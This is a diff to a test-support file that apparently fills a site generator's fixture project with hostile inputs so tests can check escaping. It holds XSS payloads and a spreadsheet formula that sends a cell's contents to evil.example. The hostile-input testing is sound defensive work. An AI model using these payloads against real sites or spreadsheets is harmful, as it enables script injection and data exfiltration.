@@ -6,6 +6,7 @@ field where the fixture leaves it out, so a field declared tomorrow is covered w
 remembering to add it here. :func:`unfilled_fields` names any written field the fixture has no
 block for: add such a block to the fixture (a test fails until then).
 """
+
 from __future__ import annotations
 
 import re
@@ -24,9 +25,11 @@ from support import FIXTURES
 # Each payload would set window.__pwned if it ran, or make a spreadsheet run a formula; the text
 # also carries Markdown's attribute lists, javascript: and data: links, and template syntax.
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
-TEXT = (f'{FORMULA} <script>window.__pwned="script"</script><video src=x onerror=window.__pwned="video"></video> '
-        '[js](javascript:window.__pwned="js") [data](data:text/html,<script>window.__pwned=1</script>) '
-        '{{ 7*7 }} {% raw %} {: tabindex=0 autofocus=autofocus onfocus=window.__pwned="attr" }')
+TEXT = (
+    f'{FORMULA} <script>window.__pwned="script"</script><video src=x onerror=window.__pwned="video"></video> '
+    '[js](javascript:window.__pwned="js") [data](data:text/html,<script>window.__pwned=1</script>) '
+    '{{ 7*7 }} {% raw %} {: tabindex=0 autofocus=autofocus onfocus=window.__pwned="attr" }'
+)
 MARKDOWN = f"""{FORMULA}
 
 A paragraph {{: onclick=window.__pwned="block-attr" }}
@@ -150,9 +153,10 @@ def hostile_project(folder: Path, text: str = TEXT, markdown: str = MARKDOWN) ->
     for path in sorted(content.glob("**/pages/*.md")):
         meta = yaml.safe_load(_FRONT_MATTER.match(path.read_text(encoding="utf-8")).group(1))
         _fill(meta, model.PageMeta, payload, filled)
-        path.write_text(f"---\n{yaml.safe_dump(meta, allow_unicode=True, sort_keys=False)}---\n\n"
-                        f"{with_image['markdown']}\n",
-                        encoding="utf-8")
+        path.write_text(
+            f"---\n{yaml.safe_dump(meta, allow_unicode=True, sort_keys=False)}---\n\n{with_image['markdown']}\n",
+            encoding="utf-8",
+        )
     return folder, filled
 
 
